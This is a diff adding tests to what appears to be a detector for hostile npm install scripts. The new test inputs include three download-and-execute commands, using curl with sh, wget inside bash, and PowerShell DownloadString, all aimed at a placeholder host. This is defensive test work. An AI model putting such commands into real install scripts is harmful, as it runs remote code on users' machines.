@@ -112,6 +112,26 @@ describe('analyseInstallScripts', () => {
     expect(signals.filter((s) => s.ruleId === rule).map((s) => s.severity)).toEqual(['high']);
   });
 
+  it.each([
+    ['curl -fsSL https://x.example/i.sh -o i.sh && sh i.sh', 'downloads with `curl`'],
+    ['bash -c "$(wget -qO- https://x.example/i)"', 'downloads with `wget`'],
+    [
+      'powershell -c "(New-Object Net.WebClient).DownloadString(\'https://x\')"',
+      'downloads with `DownloadString`',
+    ],
+  ])('names the downloader in `%s`', (cmd, what) => {
+    const s = analyseInstallScripts(scripts({ install: cmd })).signals.find(
+      (x) => x.ruleId === 'npm.threat.download-exec',
+    );
+    expect(s?.message).toContain(what);
+  });
+
+  it('does not take a file name containing "curl" for a download', () => {
+    expect(ids(scripts({ postinstall: 'node scripts/curl-helper.js' }))).toEqual([
+      'npm.capability.install-script:info',
+    ]);
+  });
+
   it('does not call `rm -rf build` destructive', () => {
     expect(ids(scripts({ postinstall: 'rm -rf build' }))).toEqual([
       'npm.capability.install-script:info',
